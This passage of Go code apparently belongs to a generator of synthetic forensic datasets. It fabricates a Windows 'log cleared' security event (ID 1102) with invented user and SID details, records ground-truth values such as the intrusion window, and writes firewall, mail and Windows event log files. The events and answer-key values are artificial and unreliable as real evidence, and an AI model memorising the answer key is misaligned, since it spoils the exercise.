	o.security = append(o.security, line{clr, winEvent(clr, "Security", "Microsoft-Windows-Eventlog", "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}", 1102, 104, "0x4020000000000000", 1020, nil,
		fmt.Sprintf("<UserData><LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'><SubjectUserSid>S-1-5-21-3623811015-3361044348-30300820-%s</SubjectUserSid><SubjectUserName>%s</SubjectUserName><SubjectDomainName>%s</SubjectDomainName><SubjectLogonId>%s</SubjectLogonId></LogFileCleared></UserData>", userRID(account), account, domain, lid))})
	truth.LogCleared = clr.Format(time.RFC3339)
	truth.IntrusionWindow = [2]string{intrusionStart.Format(time.RFC3339), clr.Format(time.RFC3339)}
}

// ---------------------------------------------------------------- writing

func write(dir string, o *output, truth *Truth) error {
	files := map[string][]line{
		"firewall/fortigate.log":    o.fortigate,
		"mail/mail.log":             o.mail,
		"windows/FS01-Security.xml": o.security,
		"windows/FS01-System.xml":   o.system,
	}
	for name, lines := range files {
		sort.SliceStable(lines, func(i, j int) bool { return lines[i].t.Before(lines[j].t) })
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			return err
		}
		var sb strings.Builder
		wrap := strings.HasSuffix(name, "System.xml") // one file with an <Events> root, one without, as wevtutil can give both
		if wrap {
			sb.WriteString("<Events>\n")
		}
		for _, l := range lines {
			sb.WriteString(l.text)
			sb.WriteByte('\n')
		}
		if wrap {
			sb.WriteString("</Events>\n")
		}
		if err := os.WriteFile(p, []byte(sb.String()), 0o644); err != nil {
			return err
		}
		truth.LinesPerFile[name] = int64(len(lines))
	}
	return nil
}
